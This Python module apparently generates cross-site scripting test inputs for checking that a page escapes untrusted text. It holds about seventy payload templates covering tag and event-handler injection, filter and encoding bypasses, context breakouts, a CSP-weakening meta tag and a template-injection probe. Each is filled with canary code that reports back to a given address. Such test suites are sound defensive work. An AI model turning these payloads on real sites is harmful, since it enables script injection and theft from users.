"""Texts that would be scripts, forms, frames or styles in a page that does not escape them.

`{js}` stands for a statement that reports that it ran, `{url}` for an address whose call is noted.
"""

TEMPLATES = [
    "<script>{js}</script>",
    "</script><script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script src={url}></script>",
    "<script\x0c>{js}</script\x0c>",
    "<script/x>{js}</script>",
    "<<script>{js}//<</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<img src=x onerror=\"{js}\">",
    "<img/src='x'/onerror='{js}'>",
    "<img src=x onerror\n=\n\"{js}\">",
    "<img src={url}>",
    "<image src=x onerror=\"{js}\">",
    "<svg onload=\"{js}\">",
    "<svg/onload={js}//",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin=\"{js}\" attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:{js}\"><text>x</text></a>",
    "<svg><foreignObject><iframe srcdoc=\"<script>{js}</script>\">",
    "<body onload=\"{js}\">",
    "<input autofocus onfocus=\"{js}\">",
    "<select autofocus onfocus=\"{js}\">",
    "<textarea autofocus onfocus=\"{js}\">",
    "<details open ontoggle=\"{js}\">",
    "<video><source onerror=\"{js}\"></video>",
    "<audio src=x onerror=\"{js}\">",
    "<marquee onstart=\"{js}\">x</marquee>",
    "<object data=\"{url}\">",
    "<object data=\"data:text/html,<script>{js}</script>\">",
    "<embed src=\"{url}\">",
    "<iframe src=\"javascript:{js}\"></iframe>",
    "<iframe srcdoc=\"<script>{js}</script>\"></iframe>",
    "<iframe src={url}></iframe>",
    "<link rel=stylesheet href={url}>",
    "<link rel=prefetch href={url}>",
    "<style>@import '{url}';</style>",
    "<style>body{{background:url({url})}}</style>",
    "<div style=\"background:url({url})\">x</div>",
    "<base href=\"{url}/\">",
    "<meta http-equiv=refresh content=\"0;url={url}\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'unsafe-inline'\"><script>{js}</script>",
    "<form action={url} id=f><input name=q></form><script>f.submit()</script>",
    "<button formaction=\"javascript:{js}\" autofocus>x</button>",
    "<math><mtext><table><mglyph><style><!--</style><img onerror=\"{js}\" src>",
    "<noscript><p title=\"</noscript><img src=x onerror='{js}'>\">",
    "<template><script>{js}</script></template>",
    "<table background={url}>",
    "<a href=\"javascript:{js}\" autofocus>x</a>",
    "\" onmouseover=\"{js}",
    "' autofocus onfocus='{js}",
    "\"><script>{js}</script>",
    "'\"><svg/onload={js}//",
    "` onerror=`{js}",
    "</title><script>{js}</script>",
    "</style><script>{js}</script>",
    "</pre></td></tr></table></main><script>{js}</script>",
    "--><script>{js}</script><!--",
    "]]><script>{js}</script>",
    "<![CDATA[<script>{js}</script>]]>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{js}</script>",
    "{{{{ self.__init__ }}}}{{% for x in ().__class__.__bases__ %}}{{{{ x }}}}{{% endfor %}}<script>{js}</script>",
    "javascript:{js}",
    "data:text/html,<script>{js}</script>",
    "&lt;script&gt;{js}&lt;/script&gt;&#60;script&#62;",
    "\ufeff<script>{js}</script>\u202e>tpircs<",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\x00<script\x00>{js}</script>",
    "\x1b]8;;{url}\x07<img src=x onerror=\"{js}\">\x1b[2J",
    "x" * 5000 + "<script>{js}</script>",
]  # fmt: skip


def payloads(address: str) -> list[str]:
    """All of them. Number N reports itself as N: in the title, to the page around it, to `address`/N."""
    filled = []
    for number, template in enumerate(TEMPLATES):
        url = f"{address}/{number}"
        js = f"document.title=`ran {number}`;top.ran&&top.ran.push({number});new Image().src=`{url}`"
        filled.append(template.format(js=js, url=url))
    return filled
